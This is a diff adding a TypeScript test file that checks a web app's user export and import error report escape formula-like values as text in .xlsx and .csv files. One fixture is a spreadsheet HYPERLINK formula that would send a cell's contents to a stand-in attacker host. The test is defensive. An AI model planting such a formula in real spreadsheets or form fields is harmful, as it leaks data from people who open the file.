@@ -1,0 +1,104 @@
+import fs from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+import ExcelJS from 'exceljs';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { openErrorReportFile } from '../src/modules/title-import/title-import-report';
+import { authed, createOrganisation, createUser, login, type Session } from './helpers/factories';
+import { createTestApp, type TestApp } from './helpers/test-app';
+
+let t: TestApp;
+let admin: Session;
+let employerId: string;
+beforeAll(async () => {
+  t = await createTestApp();
+  const province = await createOrganisation(t.database.db, {
+    kind: 'hr-bureau',
+    employerKind: 'government',
+    jurisdictionCode: '210000',
+  });
+  employerId = (await createOrganisation(t.database.db, { name: '鞍山恒信通信工程有限公司' })).id;
+  await createUser(t.database.db, {
+    username: 'root',
+    roles: ['admin'],
+    organisationId: province.id,
+    jurisdictionCode: '210000',
+  });
+  admin = await login(t.app, 'root');
+});
+afterAll(() => t?.close());
+
+async function sheetValues(
+  bytes: Buffer | Uint8Array,
+): Promise<{ type: ExcelJS.ValueType; value: unknown }[]> {
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
+  const cells: { type: ExcelJS.ValueType; value: unknown }[] = [];
+  workbook.worksheets[0]!.eachRow((row) => {
+    row.eachCell((cell) => {
+      cells.push({ type: cell.type, value: cell.value });
+    });
+  });
+  return cells;
+}
+
+const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"详情")';
+
+describe('a formula typed into a form comes out of every export as text', () => {
+  it('the users export: a display name that starts like a formula is written with an apostrophe', async () => {
+    const created = await t.app.inject({
+      method: 'POST',
+      url: '/api/v1/admin/users',
+      headers: authed(admin),
+      payload: {
+        username: 'formula',
+        displayName: HYPERLINK,
+        password: 'Passw0rd123',
+        roles: ['employer'],
+        organisationId: employerId,
+        jurisdictionCode: '210302',
+      },
+    });
+    expect(created.statusCode, created.body).toBe(201);
+    const exported = await t.app.inject({
+      method: 'GET',
+      url: '/api/v1/admin/users/export',
+      headers: authed(admin),
+    });
+    expect(exported.statusCode).toBe(200);
+    const cells = await sheetValues(exported.rawPayload);
+    expect(cells).toContainEqual({ type: ExcelJS.ValueType.String, value: `'${HYPERLINK}` });
+    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
+    expect(cells.some((c) => c.value === HYPERLINK)).toBe(false);
+  });
+
+  it('the import error report the CLI writes, as .xlsx and as .csv', async () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'zhiping-report-'));
+    try {
+      for (const name of ['errors.xlsx', 'errors.csv']) {
+        const report = openErrorReportFile(path.join(dir, name));
+        report.add({ row: 2, column: '@列', message: '-1+1' });
+        report.add({ row: 3, column: '姓名', message: '请填写姓名' });
+        await report.close();
+      }
+      const cells = await sheetValues(fs.readFileSync(path.join(dir, 'errors.xlsx')));
+      expect(cells.map((c) => c.value)).toEqual([
+        '行号',
+        '列',
+        '问题',
+        2,
+        "'@列",
+        "'-1+1",
+        3,
+        '姓名',
+        '请填写姓名',
+      ]);
+      expect(fs.readFileSync(path.join(dir, 'errors.csv'), 'utf8').split('\r\n').slice(1, 3)).toEqual([
+        "2,'@列,'-1+1",
+        '3,姓名,请填写姓名',
+      ]);
+    } finally {
+      fs.rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
